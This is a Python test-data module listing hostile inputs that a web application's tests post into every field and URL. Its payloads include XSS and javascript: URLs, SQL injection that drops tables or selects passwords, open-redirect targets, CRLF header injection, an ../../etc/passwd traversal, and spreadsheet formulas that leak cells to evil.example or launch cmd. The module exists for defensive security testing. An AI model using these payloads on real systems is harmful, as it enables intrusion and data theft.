"""The hostile-input corpus: values a visitor may send, by kind. Data only.

The tests post a representative value of each kind into every field and URL; `ALL` counts
them (the corpus is at least 150 inputs).
"""

from __future__ import annotations

import codecs

MARK = "hostile7"  # in every stored payload, to find it again on the pages

XSS = [
    f'<script>alert("{MARK}")</script>',
    f'"><script>alert("{MARK}")</script>',
    f"'><img src=x onerror=alert('{MARK}')>",
    f'<svg onload=alert("{MARK}")>',
    f'<iframe src="javascript:alert(\'{MARK}\')"></iframe>',
    f'<a href="javascript:alert(\'{MARK}\')">{MARK}</a>',
    f"<body onload=alert('{MARK}')>",
    f'<div style="background:url(javascript:alert(1))">{MARK}</div>',
    f"{{{{7*7}}}} {{% raw %}}{MARK}",  # template injection
    f"</textarea><script>alert('{MARK}')</script>",
    f"</title><script>alert('{MARK}')</script>",
    f'<math><mtext><table><mglyph><style><img src=x onerror=alert("{MARK}")>',
    f"<scr<script>ipt>alert('{MARK}')</script>",
    f"<SCRIPT SRC=//evil.example/{MARK}.js></SCRIPT>",
    f'" onmouseover="alert(\'{MARK}\')" x="',
    f"<object data='data:text/html,<script>alert(1)</script>'>{MARK}</object>",
    f'<meta http-equiv="refresh" content="0;url=javascript:alert(1)">{MARK}',
    f"<base href='//evil.example/'>{MARK}",
    f"<form action='//evil.example'><button>{MARK}</button></form>",
    f"<details open ontoggle=alert('{MARK}')>",
]

MARKDOWN = [
    f"[{MARK}](javascript:alert(1))",
    f"[{MARK}](JaVaScRiPt:alert(1))",
    f"[{MARK}](  javascript:alert(1))",
    f"[{MARK}](java&#x73;cript:alert(1))",
    f"[{MARK}](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    f"[{MARK}](vbscript:msgbox(1))",
    f"![{MARK}](javascript:alert(1))",
    f'[{MARK}](https://example.org "title\\" onclick=\\"alert(1)")',
    f"<javascript:alert(1)> {MARK}",
    f"[{MARK}][ref]\n\n[ref]: javascript:alert(1)",
    f"<a href='javascript:alert(1)'>{MARK}</a> in **Markdown**",
    f"```\n</code><script>alert('{MARK}')</script>\n```",
]

JAVASCRIPT_URLS = [
    "javascript:alert(1)",
    "JAVASCRIPT:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "javascript&colon;alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "jav&#x09;ascript:alert(1)",
]

SQL = [
    "' OR '1'='1",
    "'; DROP TABLE submission; --",
    "1; SELECT pg_sleep(5)--",
    "\" OR \"\"=\"",
    "1' UNION SELECT email, password FROM \"user\"--",
    "%' AND 1=0 UNION SELECT NULL--",
    "admin'--",
    "1) OR (1=1",
    "\\'; --",
    "$$; DROP TABLE event; $$",
]

CONTROL = [
    "NUL\x00inside",
    "\x00",
    "\x00" * 20,
    "bell\x07 and backspace\x08 and escape\x1b[31m",
    "vertical\x0btab and form\x0cfeed",
    "delete\x7f",
    "C1\x85\x9b control",
    "line\u2028separator\u2029paragraph",
    "tabs\tnewlines\nreturns\r kept",
]

BIDI_AND_INVISIBLE = [
    "\u202egnp.exe",  # right-to-left override
    "pay \u202d1000\u202c euros",  # left-to-right override
    "\u202a\u202b\u202c embeddings",
    "\u2066\u2067\u2068\u2069 isolates",
    "zero\u200bwidth\u200cnon\u200djoiner",
    "\ufeffbyte order mark",
    "\u2060word joiner and \u00ad soft hyphen",
    "کتاب\u200cها",  # Persian: the zero-width non-joiner is needed
    "e\u0301\u0301\u0301\u0301\u0301 combining marks",
    "\U0001f600\U0001f4a9 emoji and 𝕏 astral",
]

# Bytes that are not UTF-8, percent-encoded as they would arrive in a query or form body.
INVALID_UTF8 = [
    "%C0%AF",  # overlong /
    "%ED%A0%80",  # a lone surrogate, encoded
    "%FF%FE",
    "%E2%82",  # truncated sequence
    "%F4%90%80%80",  # beyond U+10FFFF
    "%80",
    "caf%E9",  # Latin-1
    "%C3%28",
]

HUGE_IDS = [
    str(2**31),  # the first value a PostgreSQL integer cannot hold
    str(2**31 - 1 + 10),
    str(2**63 - 1),
    str(2**63),  # 9223372036854775808
    "9999999999999999999999999",
    "1" + "0" * 400,
]
BAD_IDS = [
    "-1", "0", "-9223372036854775809", "1.5", "1e9", "0x10", "abc", "١٢", "½", " 1", "1 ",
    "+1", "1_000", "NaN", "Infinity", "", "%00", "1%00", "..%2F..%2Fetc%2Fpasswd", "null",
]

TOKENS = [
    "",
    "x",
    "a" * 5000,
    "eyJhbGciOiJub25lIn0.eyJzdWIiOjF9.",  # an unsigned JWT
    "WzEsImFiYyJd.AAAAAA.forgedsignature",
    "..%2F..%2F",
    "%00",
    "<script>alert(1)</script>",
    "' OR 1=1 --",
    "IjEi.Zz0000.expired-looking-signature",
]

NEXT_TARGETS = [
    "//evil.example",
    "https://evil.example/",
    "http:evil.example",
    "/\\evil.example",
    "\\\\evil.example",
    "/%2F%2Fevil.example",
    "javascript:alert(1)",
    "%0d%0aLocation:%20https://evil.example",
    "https:/\\/evil.example",
    "\t//evil.example",
    "///evil.example",
    "/%09/evil.example",
    "/\t/evil.example",  # browsers drop the tab: "//evil.example"
    "/\n/evil.example",
    " //evil.example",
]

HOSTS = [
    "a" * 5000,
    "evil.example<script>",
    "evil.example\r\nX-Injected: 1",
    "evil.example:99999",
    "[::1",
    "evil.example:abc",
    "ex ample.org",
    "@evil.example",
]

LANGUAGES = ["xx", "x" * 300, "en-GB-oxendict-x-private-really-long", "<b>", "\x00en", "EN"]

CONTENT_TYPES = [
    "application/json",
    "text/plain",
    "application/xml",
    "multipart/form-data",  # without a boundary
    "multipart/form-data; boundary=",
    "application/x-www-form-urlencoded; charset=latin-1",
    "image/png",
    "",
]

MALFORMED_MULTIPART = [
    b"--b\r\nContent-Disposition: form-data; name=\"text\"\r\n\r\nno closing boundary",
    b"garbage without any boundary at all",
    b"--b\r\nContent-Disposition: form-data\r\n\r\nno name\r\n--b--\r\n",
    b"--b\r\n\r\n\r\n--b--\r\n",
    b"--b--\r\n",
    b"--b\r\nContent-Disposition: form-data; name=\"file\"; filename=\"../../etc/passwd\"\r\n"
    b"Content-Type: text/csv\r\n\r\ntext\r\n=1+1\r\n--b--\r\n",
]

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]

CSV_ENCODINGS = ["latin-1", "utf-16", "cp1252", "shift_jis"]

ALL = [*XSS, *MARKDOWN, *JAVASCRIPT_URLS, *SQL, *CONTROL, *BIDI_AND_INVISIBLE, *INVALID_UTF8,
       *HUGE_IDS, *BAD_IDS, *TOKENS, *NEXT_TARGETS, *HOSTS, *LANGUAGES, *CONTENT_TYPES,
       *MALFORMED_MULTIPART, *FORMULAS, *CSV_ENCODINGS]


def csv_in(encoding: str, rows: list[str]) -> bytes:
    """A CSV file of ideas, header `text`, written in `encoding` (with its BOM for UTF-16)."""
    text = "text\n" + "\n".join(f'"{row}"' for row in rows) + "\n"
    data = text.encode(encoding)
    return codecs.BOM_UTF16_LE + data if encoding == "utf-16-le" else data
